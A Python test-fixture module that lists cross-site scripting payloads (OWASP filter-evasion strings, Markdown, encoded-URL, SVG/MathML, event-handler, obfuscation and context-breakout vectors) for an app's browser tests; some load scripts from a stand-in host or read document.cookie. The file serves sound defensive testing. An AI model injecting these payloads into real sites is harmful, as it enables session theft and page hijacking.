"""Hostile strings for the XSS tests: every place where text enters the app gets them all.

Sources: the OWASP XSS Filter Evasion Cheat Sheet (most entries, adapted to run in a
current browser), Markdown link and image tricks, encoded ``javascript:`` URLs, SVG and
MathML vectors, HTML5 event handlers, entity and Unicode obfuscation, mixed case and
broken tags, and breakouts from the attribute, text-area and title contexts that plain
text fields are printed in.

A payload that ran would open a dialog (``alert``, ``confirm``, ``prompt``, ``print``) or
set ``window.__xss``; the browser test watches for both. Payloads are single strings;
several hold newlines or control characters on purpose.
"""

from __future__ import annotations

# -- OWASP XSS Filter Evasion Cheat Sheet ----------------------------------------------

OWASP = [
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<script>alert(1)</script>",
    "<script>window.__xss=1</script>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65"
    "&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    '<IMG SRC=java\x00script:alert("XSS")>',
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=https://xss.example/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</script><script>alert('XSS');</script>",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">',
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061"
    "\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027"
    "\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3Jn'
    "LzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRw"
    "Oi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQi"
    "IGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh"
    'TUyIpOzwvc2Ny aXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    "<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>",
    '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT =">" SRC="https://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT a=">" \'\' SRC="https://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT "a=\'>\'" SRC="https://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT a=`>` SRC="https://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT a=">\'>" SRC="https://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://xss.example/xss.js"></SCRIPT>',
    '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>',
    "<A HREF=\"javascript:document.location='https://xss.example/'\">XSS</A>",
    "<IMG SRC=x:alert(alt) onerror=eval(src) alt=0>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">'
    '<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" '
    'to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>',
    "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"></HEAD>'
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
]

# -- Markdown link and image tricks ------------------------------------------------

MARKDOWN = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript://%0Aalert(1))",
    "[a](javascript://www.example.org/%0Aalert(1))",
    "[a](javascript:window.onerror=alert;throw%201)",
    "[a](javascript:this;alert(1))",
    "[a](javascript:alert&#65534;(1))",
    "[a](Javas&#99;ript:alert(1))",
    "[a](Javas%26%2399;ript:alert(1))",
    "[a](javascript&#58;window.__xss=1)",
    "[a](&#x6A;avascript:window.__xss=1)",
    "[a](<javascript:alert(1)>)",
    "[a](java\tscript:alert(1))",
    "[a](java\nscript:alert(1))",
    '[a](javascript:alert(1) "title")',
    "[a]( javascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    '[a](https://example.org"onmouseover="alert(1))',
    '[a](https://example.org/" onclick="alert(1))',
    "[a'\"><img src=x onerror=alert(1)>](https://example.org/)",
    "![a](javascript:alert(1))",
    '![a"onerror="alert(1)](x)',
    '![a](x "onerror=alert(1)")',
    '![a](https://example.org/x.png"onerror="alert(1))',
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![a](data:text/html,<script>alert(1)</script>)",
    "[![a](x)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:window.__xss=1>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    "[a][r]\n\n[r]: javascript:alert(1)",
    '[a][r]\n\n[r]: <javascript:alert(1)> "t"',
    "![a][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: javascript:window.__xss=1",
    "[a](#)<!--\n-->(javascript:alert(1))",
    "## Heading <script>alert(1)</script>",
    "## Heading {: onclick=alert(1) }",
    "Text{: onmouseover=alert(1) }",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> <img src=x onerror=alert(1)>",
    "* <details open ontoggle=alert(1)>",
    '<div markdown="1">[a](javascript:alert(1))</div>',
    "*<img src=x onerror=alert(1)>*",
    "__<svg onload=alert(1)>__",
    "[a](https://example.org/ 'title\" onmouseover=\"alert(1)')",
]

# -- encoded javascript: URLs ------------------------------------------------------

ENCODED_URLS = [
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JAVASCRIPT:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="&#14;javascript:alert(1)">a</a>',
    '<a href=" &#x09; javascript:alert(1)">a</a>',
    '<a href="jav&#x0A;ascript:alert(1)">a</a>',
    '<a href="javas&#99;ript:alert(1)">a</a>',
    '<a href="javascript&colon;alert(1)">a</a>',
    '<a href="javascript&#x3a;window.__xss=1">a</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">a</a>',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">a</a>',
    '<a href="java&Tab;script:alert(1)">a</a>',
    '<a href="java&NewLine;script:alert(1)">a</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">a</a>',
    '<a href="\x01javascript:alert(1)">a</a>',
    '<a href="javascript\x00:alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="VBScript:msgbox(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<a href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">a</a>',
    '<a href="javascript:%61%6c%65%72%74%28%31%29">a</a>',
    '<a href="javascript:\\u0061lert(1)">a</a>',
    "<a href=\"javascript:eval(atob('YWxlcnQoMSk='))\">a</a>",
    "<a href=javascript&#x3A;alert&lpar;1&rpar;>a</a>",
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<isindex action="javascript:alert(1)" type=image>',
]

# -- SVG and MathML ----------------------------------------------------------------

SVG_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)" />'
    "<a id=x><text x=20 y=20>XSS</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'
    "</foreignObject></svg>",
    "<svg><style>{font-family:'<iframe/onload=alert(1)>'}</style></svg>",
    '<svg><image href="x" onerror="alert(1)" />',
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]

# -- HTML5 event handlers ----------------------------------------------------------

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=window.__xss=1>",
    "<img/src/onerror=alert(1)>",
    "<img src=x:x onerror=confirm(1)>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1)>hover</div>",
    "<object data=x onerror=alert(1)>",
    "<iframe onload=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<embed src=javascript:alert(1)>",
    "<style onload=alert(1)></style>",
    "<link rel=import href=data:text/html,%3Cscript%3Ealert(1)%3C/script%3E>",
    '<div style="animation-name:x" onanimationstart=alert(1)></div>',
    "<x contenteditable onfocus=alert(1) autofocus>x</x>",
    "<a id=x tabindex=1 onfocus=alert(1)></a>",
    "<body onscroll=alert(1)><br><br><br><br><br><br><br><br><input autofocus>",
    '<h2 id="x" onclick="alert(1)">Heading</h2>',
    '<abbr title="x" onmouseover="alert(1)">CE</abbr>',
    "<span onmouseenter=print()>x</span>",
    "<p onbeforecopy=prompt(1)>x</p>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>",
    "<img src=x onerror=eval('\\x61lert(1)')>",
    "<img src=x onerror=top['al'+'ert'](1)>",
    "<img src=x onerror=\"window['__x'+'ss']=1\">",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

# -- entities, Unicode, mixed case, broken tags ------------------------------------

OBFUSCATION = [
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<!---->ipt>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=x onerror=\\u0061lert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028<script>alert(1)</script>",
    "<\u0000script>alert(1)</script>",
    '<script\x20type="text/javascript">alert(1);</script>',
    '<script\x3etype="text/javascript">alert(1);</script>',
    "<img src=x onerror=alert(1)//",
    "<img src=x onerror=alert(1) <",
    '<a href="javascript:alert(1)"',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?><img src=x onerror=alert(1)>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<title><img src="</title><img src=x onerror=alert(1)>"></title>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<style><img src="</style><img src=x onerror=alert(1)>"></style>',
    '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "<plaintext><img src=x onerror=alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA'
    "&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQBi&AH4-",
]

# -- breakouts from the contexts plain text is printed in --------------------------

CONTEXT_BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=window.__xss=1>',
    "'\"><svg/onload=alert(1)>",
    '" onfocus="alert(1)" autofocus="',
    "' onmouseover='alert(1)' x='",
    '" style="animation-name:x" onanimationstart="alert(1)',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</code></dd><img src=x onerror=alert(1)>",
    "</script><svg onload=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "\\'-alert(1)-\\'",
    "';alert(1);//",
    '";window.__xss=1;//',
    "{{7*7}}<img src=x onerror=alert(1)>",
    "${alert(1)}",
    "javascript:alert(1)",
]

PAYLOADS: list[str] = [
    *OWASP,
    *MARKDOWN,
    *ENCODED_URLS,
    *SVG_MATHML,
    *EVENT_HANDLERS,
    *OBFUSCATION,
    *CONTEXT_BREAKOUTS,
]
